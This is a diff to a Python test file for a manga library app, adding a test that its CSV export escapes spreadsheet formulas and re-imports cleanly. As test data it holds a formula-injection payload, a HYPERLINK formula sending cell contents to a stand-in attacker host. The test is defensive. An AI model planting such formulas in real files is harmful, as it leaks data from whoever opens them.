@@ -2,6 +2,7 @@
 file, batoshelf's own export) and takes it out: preview first, then the import in the background."""
 
 import ast
+import csv
 import gzip
 import io
 import json
@@ -18,7 +19,8 @@ from library.entries import MAX_PROGRESS, Entry, LibraryRefused
 from library.files import MANGADEX_SOURCE_IDS, mihon_source_id, read_library
 from library.models import ImportEntry, LibraryImport
 from notifications.models import LiveEvent, Notification
-from readers.models import Follow
+from readers.models import Follow, Shelf
+from scraping.models import Title
 from tests.conftest import logged_in, run_command
 from tests.standins.trackers import AniListStandIn, MyAnimeListStandIn, anilist_entry, mal_entry
 
@@ -353,6 +355,19 @@ def test_an_export_brought_into_a_fresh_account_gives_the_same_shelf(reader, oth
     csv_export = client.get("/shelf/export/?format=csv").content.decode()
     header, *rows = csv_export.splitlines()
     assert header.startswith("title,status,last_chapter_read,series_url") and len(rows) == 2
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula_and_reads_back_as_it_was(reader):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    title = Title.objects.create(source="mangadex", source_id=UUID, name=formula)
+    follow = Follow.objects.create(user=reader, title=title)
+    follow.shelves.add(Shelf.objects.create(user=reader, name="-Ring-"), Shelf.objects.create(user=reader, name="'Tis"))
+    exported = logged_in(reader).get("/shelf/export/?format=csv").content.decode()
+    [_, row] = list(csv.reader(io.StringIO(exported)))
+    assert row[0] == "'" + formula and row[7] == "'Tis;-Ring-"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
+    _, [entry] = read_library(exported.encode())
+    assert entry.names[0] == formula and sorted(entry.shelves) == ["'Tis", "-Ring-"]
 
 
 @pytest.mark.parametrize(
